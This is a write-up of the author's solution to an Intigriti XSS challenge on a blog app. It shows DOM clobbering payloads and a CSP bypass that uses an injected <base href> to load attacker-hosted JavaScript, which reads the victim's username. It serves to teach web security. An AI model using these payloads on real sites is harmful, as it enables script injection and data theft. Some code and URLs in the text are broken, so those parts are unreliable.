This write-up aims to describe the steps that I did to solve the Intigriti’s december XSS challenge, which was created by Florian(@fh4ntke).

Christmas Blog is a simple blog mechanism, in which each user has your own blog page. Based on it, the blog’s pages can be accessed from public URLs.

The exploit can be accessed directly here (unintended solution).

User inputs

According to the application’s functionalities, the user may manipulate the following data inputs:

  1. Username (Create an user);
  2. Content (Edit blog’s content);
  3. Tags (Edit blog’s content);4. Name (Publish a comment in the blog’s page);
  5. Comment (Publish a comment in the blog’s page).

Inserting an HTML element as <h1>test</h1> in all options above, option 2 is the only one that actually renders HTML, as shown in the image below.

Input test

With the input found, it may test any HTML element that can leverage to a JavaScript execution. This step can be made by using the Cross-site scripting (XSS) cheat sheet, maintained by PortSwigger [1]. Once the data are sent to the application, is made somesanitization against tags <> and events. Thus, some attempts at payloadswill not work as expected.

Source code

Looking at the source code, there are two important pieces of code. The first one between script tags and the second one loaded as an import /static/js/bootstrap.bundle.min.js. The main content of scripts tags is shown below:

<script nonce="<randon>">

  document.addEventListener("DOMContentLoaded", function(){
    const queryString =;
    const urlParams = new URLSearchParams(queryString);
    const share = urlParams.get('share')if (share != null) {
        let share_button = document.querySelector("#share-button");


The script is based on the GET parameter share, which is possible to trigger a click on the share button. Once the parameter ?share=1 has some content when the DOM is loaded, the click will be trigged. Therefore, the script makes this by getting the id share-button.DOM clobbering

According to PortSwigger, DOM clobbering is a technique in which you inject HTML into a page to manipulate the DOM and ultimately change the behavior of JavaScript on the page. It is useful in cases where XSS is not possible, but you can control some HTML on a page where the attributes id or name are whitelisted by the HTML filter [2].

The id share-button can be used to exploit DOM clobbering by adding an HTML element with the same id value. Thus, the approach is to create an a element with the id value share-button and set the href attribute with some content to be trigged. So, href can be an URL, which may cause an open redirect. Another option is to use javascript: to trigger a JavaScript execution. The following code shows these two options.

<a id=share-button href=//>CLICK</a>
<a id=share-button href=javascript:alert()>CLICK</a>

CSP bypassDoing the previous step, clicking on javascript:alert() is not executed due to the CSP rules. These rules can be easily checked with the CSP evaluator using The CSP rules are shown below:

CSP Evaluator

The application is setting the directive script-src to nonce, which is applied for the browser to verify if an HTML element is trusted to execute JavaScript code [3]. This nonce is a hash randomly generated by the server in each request made. So the hash cannot be guessed to use in a element.

The CSP Evaluator shows a huge CSP weakness: base-uri. The <base> element specifies the base URL to use for all relative URLs in a document [4]. Furthermore, if the base is set to, all JavaScript imports will be loaded from that URL.

Based on the source code step, the script /static/js/bootstrap.bundle.min.js is being imported. Thus, as this HTML element already comes with a valid nonce from the server, it is possible to set the base to an URL. The import will be from https://<base URL>/static/js/bootstrap.bundle.min.js. Consequently, the XSS is achieved by using an URL controlled and it needs to host the path /static/js/bootstrap.bundle.min.js with the payload.


According to the rules of the challenge, it is required to run an alert showing the username of the victim. This requirement can be achieved by reading the DOM, in which the username is placed in a class navbar-brand, as shown in the image below.


The code below shows a way to parser it. When the victim is not logged in, it just pops analert with the window.location:

const text = document.getElementsByClassName("navbar-brand")[0].textContent;
const username = text.split('- ')[1];
(username) ? alert(username.split('\n')[0]) : alert(document.location);


Host the payload:1. Open;
  2. Click on Edit in the top-right bar;
  3. Change the Content Type to text/html and put the payload in Response body;
  4. Click on save button;
  5. Copy the URL by clicking on Copy in the top-right bar and then click on URL. step

It’s necessary to place in the correct path /static/js/. BugPoc has a greattool called Flexible Redirector. Basically, it can be used to make a redirect to an URL without caring about the endpoint. The image below shows an example based on

BugPoC - Flexible Redirector

With the URL copied from, use it in Flexible Redirector to get the final URL to use in the base element. Just copy the first URL that Flexible Redirector gives.

The exploit will look like this:

<base href="<Flexible Redirector URL>"/ >

The last step is to access the Edit page in your account on the URL of the challenge and edit the content with the exploit.

Edit page1. Cross-site scripting (XSS) cheat sheet - PortSwigger.
  2. DOM clobbering - PortSwigger.
  3. Content Security Policy - Google Developers.
  4. Policy applies toa wide variety of resources -Google Developers.
  5. CSP Evaluator.